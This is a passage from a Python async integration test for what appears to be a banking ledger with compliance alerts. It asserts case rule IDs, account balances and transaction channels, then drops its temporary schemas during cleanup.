            assert cases["Deposit alert"]["rule_ids"] == ["ctr-daily-cash", "velocity-10m"]
            assert cases["Deposit alert"]["kinds"] == ["ctr", "velocity"]
            assert cases["Withdraw hold"]["decision_event_id"] == next(
                ev.event_id for ev in events if isinstance(ev, e.CaseReviewed) and ev.case_id == held.command_id)
            account_row = await conn.fetchrow(f"SELECT * FROM {schemas[0]}.accounts")
            assert (account_row["balance"], account_row["available_balance"]) == (7500, 7500)
            assert json.loads(account_row["holds"]) == {}
            channels = [r["channel"] for r in await conn.fetch(
                f"SELECT channel FROM {schemas[0]}.transactions ORDER BY sequence")]
            assert channels == ["transfer", "cash", "cash"]   # deposit, alerted cash deposit, approved withdrawal
        finally:
            for store in stores:
                await store.close()
            for schema in schemas:
                await conn.execute(f"DROP SCHEMA IF EXISTS {schema} CASCADE")
            await conn.close()

    asyncio.run(scenario())
